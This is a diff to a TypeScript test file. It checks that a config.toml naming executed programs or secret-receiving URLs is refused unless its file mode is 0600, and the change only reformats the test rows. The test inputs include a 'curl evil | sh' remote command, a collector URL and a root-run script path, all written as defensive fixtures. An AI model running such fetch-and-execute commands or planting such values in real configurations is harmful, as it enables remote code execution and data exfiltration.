@@ -16,10 +16,26 @@ const mode = (p: string) => statSync(p).mode & 0o777;
 
 describe('config.toml: refused unless 0600 when it names something executed or a secret-receiving URL', () => {
   const rows: { name: string; text: string; refused: RegExp | null }[] = [
-    { name: 'sendmail.path', text: '[notify.sendmail]\npath = "/tmp/x.sh"\nto = "a@b.org"\n', refused: /sets notify\.sendmail\.path \(a program run as root\)/ },
-    { name: 'cluster.remote_command', text: '[cluster]\nremote_command = "curl evil | sh"\n', refused: /sets cluster\.remote_command/ },
-    { name: 'mailjet.base_url', text: '[notify.mailjet]\nbase_url = "https://collector.example"\n', refused: /sets notify\.mailjet\.base_url/ },
-    { name: 'smtp.host (the password may come from the environment)', text: '[notify.smtp]\nhost = "mx.example"\n', refused: /sets notify\.smtp\.host/ },
+    {
+      name: 'sendmail.path',
+      text: '[notify.sendmail]\npath = "/tmp/x.sh"\nto = "a@b.org"\n',
+      refused: /sets notify\.sendmail\.path \(a program run as root\)/,
+    },
+    {
+      name: 'cluster.remote_command',
+      text: '[cluster]\nremote_command = "curl evil | sh"\n',
+      refused: /sets cluster\.remote_command/,
+    },
+    {
+      name: 'mailjet.base_url',
+      text: '[notify.mailjet]\nbase_url = "https://collector.example"\n',
+      refused: /sets notify\.mailjet\.base_url/,
+    },
+    {
+      name: 'smtp.host (the password may come from the environment)',
+      text: '[notify.smtp]\nhost = "mx.example"\n',
+      refused: /sets notify\.smtp\.host/,
+    },
     { name: 'a secret', text: '[notify.webhook]\nurl = "https://h/x/SECRET"\n', refused: /holds secrets/ },
     { name: 'thresholds only', text: '[dm]\nthin_data_warning = 70\n', refused: null },
     { name: 'sendmail recipients only (no path)', text: '[notify.sendmail]\nto = "a@b.org"\n', refused: null },
